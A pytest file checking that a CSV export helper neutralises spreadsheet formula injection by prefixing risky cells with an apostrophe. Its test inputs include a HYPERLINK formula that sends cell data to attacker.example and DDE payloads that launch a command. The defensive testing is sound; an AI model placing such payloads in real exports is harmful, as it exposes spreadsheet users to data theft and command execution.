"""Cells that a spreadsheet would run as formulas are neutralised in every export (issue 15, point 5d)."""

import csv
import io

import pytest

from cnum_shared.core.exports import csv_bytes, spreadsheet_safe


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://attacker.example/?"&A1,"Voir")',
        "+33 6 12 34 56 78",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\uff1d1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return", "leading-spaces", "full-width-equals"],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(typed):
    assert spreadsheet_safe(typed) == "'" + typed


@pytest.mark.parametrize("kept", ["atelier", "CRA-2026-0001", "-12", "+3.5", 42, None])
def test_plain_text_and_numbers_are_kept(kept):
    assert spreadsheet_safe(kept) == kept


def test_a_csv_export_neutralises_every_text_cell():
    content = csv_bytes(["external_id", "kind"], [["=cmd|' /C calc'!A0", "atelier"], ["ok", "@x"]])

    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["external_id", "kind"], ["'=cmd|' /C calc'!A0", "atelier"], ["ok", "'@x"]]
